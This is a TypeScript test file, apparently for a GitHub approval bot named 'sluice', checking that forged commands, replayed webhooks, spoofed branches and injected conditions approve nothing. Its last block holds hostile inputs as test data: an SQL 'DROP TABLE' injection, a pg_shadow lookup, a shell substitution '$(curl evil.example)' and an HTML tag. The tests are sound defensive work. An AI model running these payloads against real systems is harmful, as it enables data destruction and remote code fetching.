import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { LocalPullRequest } from '../../../sandbox/github/pull-request.ts';
import { breakingChange, configuration, type Scene, schemas, startScene } from '../fixture.ts';

/** Commands and clicks that would do what their giver may not, or what nobody asked for (threats 2, 3, 6, 8). */
let scene: Scene;
beforeAll(async () => {
  scene = await startScene();
});
beforeEach(() => scene.begin());
afterAll(() => scene.close());

const waiting = 'in_progress: Waiting for 1 approval';
const says =
  (by: string, body: string) =>
  (pull: LocalPullRequest): Promise<unknown> =>
    scene.say(pull, by, body);

/** Sent again, as it was signed, under a number of its own: GitHub does not sign the number. */
async function replay(which: (body: string) => boolean): Promise<void> {
  const delivery = scene.github.webhooks.deliveries.findLast(({ body }) => which(body));
  if (delivery === undefined) throw new Error('no such webhook');
  const headers = { ...delivery.headers, 'x-github-delivery': `replayed-${Math.random()}` };
  await scene.github.webhooks.send({ ...delivery, headers });
  await scene.idle();
}

const click = async (pull: LocalPullRequest, by: string, label: string): Promise<void> => {
  await scene.look();
  await pull.click(by, (await scene.approvalRun(pull))?.id ?? 0, label);
  await scene.idle();
};

describe('an approval that is none', () => {
  const cases: Readonly<Record<string, (pull: LocalPullRequest) => Promise<unknown>>> = {
    'a stranger writes the command': says('stranger', '/sluice approve'),
    'the author writes the command': says('developer', '/sluice approve'),
    'an owner of the organisation who is not in the team writes the command': says('owner', '/sluice approve'),
    'the command is quoted in an answer': says('platform-engineer', '> /sluice approve\n\nno'),
    'the command is in a block of code': says('platform-engineer', '```\n/sluice approve\n```'),
    'the command is in a comment that readers do not see': says('platform-engineer', '<!--\n/sluice approve\n-->'),
    'the command comes after other words': says('platform-engineer', 'I would not\n/sluice approve'),
    'the command is indented': says('platform-engineer', ' /sluice approve'),
    'the command has letters that only look alike': says('platform-engineer', '/sluic\u0435 approve'),
    'the command has a word too many': says('platform-engineer', '/sluice approve all'),
    'the command has an invisible character': says('platform-engineer', '/sluice\u200b approve'),
    'the author clicks': (pull) => click(pull, 'developer', 'approve'),
    'a stranger clicks': (pull) => click(pull, 'stranger', 'approve'),
    'the author has it run with a command': says('developer', '/sluice schedule now'),
  };
  it.each(Object.entries(cases))('%s: nothing is approved', async (_, attack) => {
    const pull = await scene.propose(breakingChange);
    await attack(pull);
    expect(await scene.check(pull)).toBe(waiting);
    await scene.merge(pull);
    expect(await scene.runs()).toEqual([]);
  });
});

describe('a webhook that is sent again under another number', () => {
  it('of a click does not take back the rejection that came after it', async () => {
    const pull = await scene.propose(breakingChange);
    await click(pull, 'platform-engineer', 'approve');
    expect(await scene.check(pull)).toMatch(/^success/);
    await new Promise((resolve) => setTimeout(resolve, 1100));
    await scene.say(pull, 'platform-engineer', '/sluice reject the claims team is not ready');
    expect(await scene.check(pull)).toBe('failure: Changes requested by platform-engineer');
    expect(await scene.summary(pull)).toContain('the claims team is not ready');
    await new Promise((resolve) => setTimeout(resolve, 1100));
    await scene.look();
    await replay((body) => body.includes('"requested_action":{"identifier":"approve.'));
    expect(await scene.check(pull)).toBe('failure: Changes requested by platform-engineer');
  });

  it('of a click does not take back a dismissal, and its giver is told what to do instead', async () => {
    const pull = await scene.propose(breakingChange);
    await click(pull, 'platform-engineer', 'approve');
    await new Promise((resolve) => setTimeout(resolve, 1100));
    await pull.dismiss(await scene.review(pull, 'platform-engineer'), 'owner');
    await scene.idle();
    expect(await scene.check(pull)).toBe(waiting);
    await replay((body) => body.includes('"requested_action":{"identifier":"approve.'));
    expect(await scene.check(pull)).toBe(waiting);
    expect((await pull.comments('owner')).at(-1)?.body).toContain('a click counts once');
    await new Promise((resolve) => setTimeout(resolve, 1100));
    await scene.say(pull, 'platform-engineer', '/sluice approve');
    expect(await scene.check(pull)).toMatch(/^success/);
  });

  it('of a rejection by a click does not hold up what was approved since, though a new click does', async () => {
    const pull = await scene.propose(breakingChange);
    await click(pull, 'platform-engineer', 'reject');
    expect(await scene.check(pull)).toMatch(/^failure/);
    await new Promise((resolve) => setTimeout(resolve, 1100));
    await scene.say(pull, 'platform-engineer', '/sluice approve');
    expect(await scene.check(pull)).toMatch(/^success/);
    await new Promise((resolve) => setTimeout(resolve, 1100));
    await replay((body) => body.includes('"requested_action":{"identifier":"reject.'));
    expect(await scene.check(pull)).toMatch(/^success/);
    await click(pull, 'platform-engineer', 'reject');
    expect(await scene.check(pull)).toMatch(/^failure/);
  });

  it('of a review approves nothing that was dismissed since', async () => {
    const pull = await scene.propose(breakingChange);
    await pull.dismiss(await scene.review(pull, 'platform-engineer'), 'owner');
    await scene.idle();
    await replay((body) => body.includes('"action":"submitted"'));
    expect(await scene.check(pull)).toBe(waiting);
  });

  it('of a comment counts once', async () => {
    const pull = await scene.propose(breakingChange);
    await scene.say(pull, 'platform-engineer', '/sluice approve');
    await new Promise((resolve) => setTimeout(resolve, 1100));
    await scene.review(pull, 'platform-engineer', 'REQUEST_CHANGES');
    await replay((body) => body.includes('/sluice approve'));
    expect(await scene.check(pull)).toBe('failure: Changes requested by platform-engineer');
  });

  it('of a merge orders no second run', async () => {
    const pull = await scene.propose(breakingChange);
    await scene.review(pull, 'platform-engineer');
    await scene.merge(pull);
    await replay((body) => body.includes('"action":"closed"'));
    expect(await scene.runs()).toHaveLength(1);
    expect((await scene.events()).filter((event) => event.startsWith('merge.settled'))).toHaveLength(1);
  });
});

describe('more than fits on one page', () => {
  it('of reviews: changes requested after a hundred others hold it up', { timeout: 60_000 }, async () => {
    const pull = await scene.propose(breakingChange);
    scene.github.webhooks.hold();
    await pull.review('platform-engineer', 'APPROVE', '');
    for (let count = 0; count < 101; count += 1) await pull.review('stranger', 'COMMENT', 'words');
    await pull.review('second-engineer', 'REQUEST_CHANGES', 'no');
    await scene.github.webhooks.release();
    await scene.idle();
    expect(await scene.check(pull)).toBe('failure: Changes requested by second-engineer');
  });

  it('of files: a break among four hundred is found', { timeout: 60_000 }, async () => {
    const many = Object.fromEntries(Array.from({ length: 400 }, (_, n) => [`docs/a${n}.md`, `${n}\n`]));
    const pull = await scene.propose({ ...many, ...breakingChange });
    expect(await scene.check(pull)).toBe(waiting);
  });
});

describe('names', () => {
  it('of people are the same in any case: an author is not somebody else, an approver is', async () => {
    const users = configuration.replace('teams: [acme/platform]', 'users: [Developer, PLATFORM-engineer]');
    await scene.repository.commitFiles('main', { '.github/sluice.yml': users }, { by: 'owner' });
    const pull = await scene.propose(breakingChange);
    await scene.review(pull, 'developer');
    expect(await scene.check(pull)).toBe(waiting);
    await scene.review(pull, 'platform-engineer');
    expect(await scene.check(pull)).toBe('success: Approved by platform-engineer');
  });

  it('of a team that is gone let nobody approve', async () => {
    const gone = configuration.replace('acme/platform', 'acme/dissolved');
    await scene.repository.commitFiles('main', { '.github/sluice.yml': gone }, { by: 'owner' });
    const pull = await scene.propose(breakingChange);
    await scene.review(pull, 'platform-engineer');
    expect(await scene.check(pull)).toBe(waiting);
  });

  it('of a branch that looks like that of a merge queue decide nothing', async () => {
    const pull = await scene.propose(breakingChange);
    const branch = `gh-readonly-queue/main/pr-${pull.number}-${pull.head}`;
    await scene.repository.commitFiles(branch, { [schemas.path]: schemas.breaking }, { by: 'developer' });
    await scene.idle();
    expect(await scene.check(pull)).toBe(waiting);
    expect(await scene.runs()).toEqual([]);
  });
});

describe('a condition', () => {
  const cases: Readonly<Record<string, string>> = {
    'that would be SQL': `0 records without /a'; DROP TABLE claims; --`,
    'that names a table': '0 records of pg_shadow without a',
    'that would be a command of a shell': '$(curl evil.example)',
    'that mentions everybody': '@acme/platform must approve <img src=x>',
    'that is a window nobody can read': 'window DROP TABLE',
  };
  it.each(Object.entries(cases))('%s is a task for people, shown as what it is', async (_, words) => {
    const pull = await scene.propose(breakingChange);
    await scene.say(pull, 'platform-engineer', '/sluice approve if\n\n'.concat(`- [ ] ${words}\n`));
    const { rows } = await scene.database.pool.query<{ kind: string }>(
      'SELECT kind FROM sluice.conditions WHERE repository = $1',
      [scene.repository.fullName.toLowerCase()],
    );
    expect(rows).toEqual([{ kind: 'task' }]);
    expect((await scene.summary(pull)).replace(/(`+)[\s\S]*?[^`]\1(?!`)/g, '')).not.toMatch(
      /<img|@acme\/platform must/,
    );
  });
});
